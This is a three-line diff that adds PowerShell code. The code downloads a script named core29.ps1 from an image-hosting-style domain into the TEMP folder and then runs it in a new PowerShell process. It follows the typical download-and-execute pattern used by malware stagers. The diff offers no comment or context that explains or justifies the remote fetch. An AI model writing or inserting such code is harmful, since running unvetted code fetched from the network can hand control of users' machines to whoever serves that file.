@@ -1,0 +1,3 @@
+$dest = Join-Path $env:TEMP 'core29.ps1'
+(New-Object Net.WebClient).DownloadFile('http://img-hosting.test/core29.ps1', $dest)
+Start-Process powershell -ArgumentList $dest
